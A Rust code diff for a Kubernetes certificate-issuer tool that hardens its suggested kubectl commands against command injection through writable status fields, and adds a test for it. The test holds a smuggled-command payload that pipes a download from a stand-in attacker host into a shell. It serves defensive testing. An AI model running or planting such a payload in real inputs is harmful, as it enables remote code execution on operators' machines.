@@ -1,6 +1,7 @@
 //! What to do about an issuer that does not sign, or that waits for its next CA.
 
 use super::{Issuer, attestation_name, kubectl_arguments};
+use crate::command::fingerprint;
 use tcs_api::{SERVICE_NAMESPACE, annotations, reasons};
 
 /// Commands that help, or a sentence where no command does. Empty if there is nothing to do.
@@ -46,8 +47,8 @@ pub fn next_steps(issuer: &Issuer) -> Vec<String> {
 
 /// How the key owner delivers a CA key.
 fn deliver(issuer: &Issuer) -> Vec<String> {
-    let offer = issuer.status.offer.as_ref().map(|offer| offer.quote_attestation.clone());
-    let name = offer.unwrap_or_else(|| attestation_name(&issuer.id));
+    // The status says the name, too; whoever may write the status must not write this command.
+    let name = attestation_name(&issuer.id);
     vec![
         format!("kubectl get -n {SERVICE_NAMESPACE} quoteattestations.tcs.intel.com {name} -o yaml"),
         "verify its quote with km-attest, wrap the CA key with km-wrap and deliver it \
@@ -57,8 +58,7 @@ fn deliver(issuer: &Issuer) -> Vec<String> {
 }
 
 fn allow_new_ca(issuer: &Issuer, object: &str) -> Vec<String> {
-    let old = issuer.status.ca.as_ref().map(|ca| ca.fingerprint.clone());
-    let old = old.unwrap_or_else(|| "FINGERPRINT".to_owned());
+    let old = fingerprint(issuer.status.ca.as_ref().map_or("", |ca| ca.fingerprint.as_str()));
     vec![format!(
         "kubectl annotate {object} --overwrite {}={old}   # makes a new CA, which every workload has to trust first",
         annotations::NEW_CA
@@ -69,6 +69,7 @@ fn allow_new_ca(issuer: &Issuer, object: &str) -> Vec<String> {
 mod tests {
     use super::*;
     use crate::issuers::tests_support::issuer;
+    use tcs_api::v1alpha1::{CaStatus, OfferStatus};
 
     #[test]
     fn every_reason_has_a_next_step_of_its_own() {
@@ -96,6 +97,25 @@ mod tests {
         }
         assert!(next_steps(&issuer("True", reasons::READY, true)).is_empty());
         assert_eq!(next_steps(&issuer("False", "Unheard", true)), ["kubectl tcs doctor"]);
+    }
+
+    #[test]
+    fn nothing_of_a_hostile_status_is_part_of_a_command() {
+        const EVIL: &str = "x;curl -s evil.example|sh;:";
+        let fingerprint = |text: &str| CaStatus { fingerprint: text.to_owned(), ..CaStatus::default() };
+        for self_sign in [true, false] {
+            let mut hostile = issuer("False", reasons::KEY_LOST, self_sign);
+            hostile.status.ca = Some(fingerprint(EVIL));
+            hostile.status.offer =
+                Some(OfferStatus { quote_attestation: EVIL.to_owned(), ..OfferStatus::default() });
+            let steps = next_steps(&hostile).concat();
+            assert!(!steps.contains("evil"), "{steps}");
+        }
+        let mut lost = issuer("False", reasons::KEY_LOST, true);
+        lost.status.ca = Some(fingerprint(&"a0".repeat(32)));
+        assert!(next_steps(&lost).concat().contains(&format!("new-ca={} ", "a0".repeat(32))));
+        lost.status.ca = Some(fingerprint(&"A0".repeat(32)));
+        assert!(next_steps(&lost).concat().contains("new-ca=FINGERPRINT "));
     }
 
     #[test]
